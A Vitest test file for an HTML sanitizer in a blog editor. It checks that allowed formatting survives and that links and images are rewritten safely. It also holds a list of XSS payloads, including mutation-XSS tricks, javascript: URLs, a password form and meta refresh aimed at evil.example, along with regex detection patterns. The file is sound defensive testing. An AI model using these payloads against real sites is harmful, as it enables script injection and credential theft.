import { expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

test('what the editor offers stays as it was written', () => {
  const written = [
    '<h2>Morning</h2><p style="text-align:center">Wash, <strong>pat</strong> <em>dry</em>, <u>wait</u>.</p>',
    '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>Less is more</blockquote>',
    '<table><tbody><tr><th scope="row">Day</th><td colspan="2">Sunscreen</td></tr></tbody></table>',
  ].join('')
  expect(cleanHtml(written)).toBe(written)
})

test('a link opens safely, a picture of ours loads late, a second title becomes a heading', () => {
  expect(cleanHtml('<a href="https://example.com/a?b=1" target="_blank">there</a>')).toBe(
    '<a href="https://example.com/a?b=1" target="_blank" rel="noopener">there</a>',
  )
  expect(cleanHtml('<img src="/media/pictures/a/800.webp" alt="Blog image">')).toBe(
    '<img src="/media/pictures/a/800.webp" alt="Blog image" loading="lazy" />',
  )
  expect(cleanHtml('<h1>Title</h1>')).toBe('<h2>Title</h2>')
})

test.each([
  '<img src="https://elsewhere.example/pixel.gif">',
  '<img src="//elsewhere.example/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="x" onerror="alert(1)">',
])('a picture from elsewhere is left out: %s', (html) => {
  expect(cleanHtml(html)).toBe('')
})

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<p onclick="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<p style="background:url(javascript:alert(1));position:fixed">x</p>',
  '<style>@import "https://evil.example"</style>',
  '<link rel=stylesheet href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<object data="x"></object><embed src="x"><video src=x onerror=alert(1)></video>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<img src="/media/x.webp" onerror=alert(1) style="x:expression(alert(1))">',
  '<<p>script>alert(1)<</p>/script>',
]

test.each(attacks)('nothing that could run is left of %s', (html) => {
  const clean = cleanHtml(html)
  expect(clean).not.toMatch(
    /<(?:script|svg|math|iframe|form|input|style|link|meta|base|object|embed|video|textarea)/i,
  )
  expect(clean).not.toMatch(/<[^>]*\s(?:on\w+|srcdoc|action)=/i)
  expect(clean).not.toMatch(/(?:javascript|vbscript|data):|position|expression|@import|url\(/i)
  expect(cleanHtml(clean)).toBe(clean)
})
